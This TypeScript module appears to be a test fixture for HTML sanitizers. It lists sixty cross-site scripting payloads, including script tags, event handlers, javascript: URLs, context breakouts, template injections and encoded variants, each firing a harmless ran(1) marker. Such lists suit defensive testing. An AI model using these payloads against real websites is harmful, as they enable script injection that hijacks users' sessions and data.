/** An element that each payload makes if a page takes the text for markup. */
export const hostileElement = '[data-hostile]'
const mark = 'data-hostile'
const run = 'ran(1)'

const inMarkup = [
  `<script ${mark}>${run}</script>`,
  `<img ${mark} src=x onerror=${run}>`,
  `<svg ${mark} onload=${run}>`,
  `<svg ${mark}><script>${run}</script></svg>`,
  `<svg ${mark}><animate onbegin=${run} attributeName=x dur=1s>`,
  `<body ${mark} onload=${run}>`,
  `<iframe ${mark} src="javascript:parent.${run}">`,
  `<iframe ${mark} srcdoc="<script>parent.${run}</script>">`,
  `<object ${mark} data="javascript:${run}">`,
  `<embed ${mark} src="javascript:${run}">`,
  `<details ${mark} open ontoggle=${run}>`,
  `<input ${mark} autofocus onfocus=${run}>`,
  `<select ${mark} autofocus onfocus=${run}>`,
  `<textarea ${mark} autofocus onfocus=${run}>`,
  `<video ${mark}><source onerror=${run}></video>`,
  `<audio ${mark} src=x onerror=${run}>`,
  `<marquee ${mark} onstart=${run}>`,
  `<a ${mark} href="javascript:${run}">x</a>`,
  `<form ${mark} action="javascript:${run}"><button>x</button></form>`,
  `<button ${mark} formaction="javascript:${run}">x</button>`,
  `<math ${mark}><mtext></mtext><script>${run}</script></math>`,
  `<style ${mark}>*{background:red}</style>`,
  `<link ${mark} rel=stylesheet href="data:text/css,*{color:red}">`,
  `<meta ${mark} http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base ${mark} href="//x.example/">`,
  `<template ${mark}><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img ${mark} src=x onerror=${run}>">`,
  `<xss ${mark} style="animation-name:x" onanimationstart=${run}>`,
  `<div ${mark} style="width:expression(${run})">x</div>`,
  `<isindex ${mark} type=image src=1 onerror=${run}>`,
] as const

/** Ends of what a text may stand in, before markup of the list above. */
const ends = [
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '`}',
] as const

const elsewhere = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script ${mark}>${run}</script>`,
  `vbscript:${run}`,
  `" onmouseover=${run} ${mark}="`,
  `' onfocus=${run} autofocus ${mark}='`,
  `\${${run}}`,
  `{{${run}}}`,
  `{{constructor.constructor('${run}')()}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `';${run};//`,
  `";${run};//`,
  '\\u003cimg data-hostile src=x onerror=ran(1)\\u003e',
  '&lt;img data-hostile src=x onerror=ran(1)&gt;',
  '&#60;img data-hostile src=x onerror=ran(1)&#62;',
  '%3Cimg data-hostile src=x onerror=ran(1)%3E',
  '\uFF1Cimg data-hostile src=x onerror=ran(1)\uFF1E',
  '[x](javascript:ran(1))',
  '![x](x"onerror="ran(1))',
] as const

/** Sixty texts that run a script, or add an element, where a page takes them for markup, an address or code. */
export const payloads: readonly string[] = [
  ...inMarkup,
  ...ends.map((end) => `${end}<img ${mark} src=x onerror=${run}>`),
  ...elsewhere,
]
